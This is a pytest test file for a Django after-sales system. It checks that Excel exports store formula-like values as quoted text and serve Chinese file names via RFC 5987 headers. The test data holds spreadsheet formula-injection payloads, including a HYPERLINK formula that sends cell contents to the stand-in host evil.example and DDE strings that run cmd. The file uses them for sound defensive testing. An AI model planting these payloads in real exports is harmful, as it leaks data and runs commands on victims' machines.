"""Finding 8#2 and 9#15: no stored value comes out of an Excel export as a live formula, and
every export downloads under its Chinese file name (RFC 5987 ``filename*``)."""

from __future__ import annotations

import io
import zipfile
from typing import Any
from urllib.parse import unquote

import pytest
from django.test import Client
from openpyxl import load_workbook

from aftersales.approvals.testing import build
from aftersales.core.exports import content_disposition, xlsx
from aftersales.customers.models import Customer
from aftersales.parts.tests.helpers import file_request
from aftersales.returns.tests.helpers import apply

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes) -> list[Any]:
    ws = load_workbook(io.BytesIO(content)).worksheets[0]
    return [c for row in ws.iter_rows() for c in row]


def _no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _filename(resp: Any) -> str:
    header = resp["Content-Disposition"]
    assert header.startswith("attachment;") and 'filename="' in header
    return unquote(header.split("filename*=UTF-8''", 1)[1])


def _client(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_shared_writer_keeps_formula_starters_as_quoted_text() -> None:
    resp = xlsx("客户.xlsx", "客户", ["名称", "数量"], [[v, 1] for v in HOSTILE])
    content = resp.content
    _no_formula_in(content)
    column = [c for c in _cells(content) if c.column == 1]
    assert column[0].value == "名称" and column[0].quotePrefix is False  # plain text stays plain
    for value, cell in zip(HOSTILE, column[1:], strict=True):
        # XML turns a stored CR into LF on reading; the text is otherwise kept exactly
        assert cell.value == value.replace("\r", "\n"), value
        assert cell.data_type == "s" and cell.quotePrefix, value
    assert _filename(resp) == "客户.xlsx"


def test_content_disposition_has_ascii_fallback_and_utf8_name() -> None:
    header = content_disposition('补件单 "x"_20261202.xlsx')
    assert header == (
        'attachment; filename="x_20261202.xlsx"; '
        "filename*=UTF-8''%E8%A1%A5%E4%BB%B6%E5%8D%95%20%22x%22_20261202.xlsx"
    )
    assert content_disposition("退货单.xlsx").startswith('attachment; filename="export.xlsx";')


@pytest.mark.django_db
def test_every_export_writes_planted_formulas_as_text_under_a_chinese_name() -> None:
    w = build()
    planted = "=cmd|' /C calc'!A0"
    Customer.objects.filter(pk=w.cust_a.pk).update(name='=HYPERLINK("http://evil.example","x")')
    file_request(w, reason=planted)
    # a customer-portal user plants one through a return reason
    apply(w, actor=w.customer_user_a, reason="@SUM(1+1)")
    coord = _client(w.coordinator)
    downloads = {
        "/imports/export/customers/": "客户",
        "/imports/export/sites/": "项目",
        "/imports/export/equipment/": "设备",
        "/parts/export.xlsx?state=all": "补件单",
        "/returns/export.xlsx?state=all": "退货单",
    }
    seen: set[str] = set()
    for url, name in downloads.items():
        resp = coord.get(url)
        assert resp.status_code == 200, url
        assert name in _filename(resp), (url, resp["Content-Disposition"])
        _no_formula_in(resp.content)
        for c in _cells(resp.content):
            if isinstance(c.value, str) and c.value[:1] in "=+-@":
                assert c.data_type == "s" and c.quotePrefix, (url, c.value)
                seen.add(c.value)
    assert {'=HYPERLINK("http://evil.example","x")', planted, "@SUM(1+1)"} <= seen
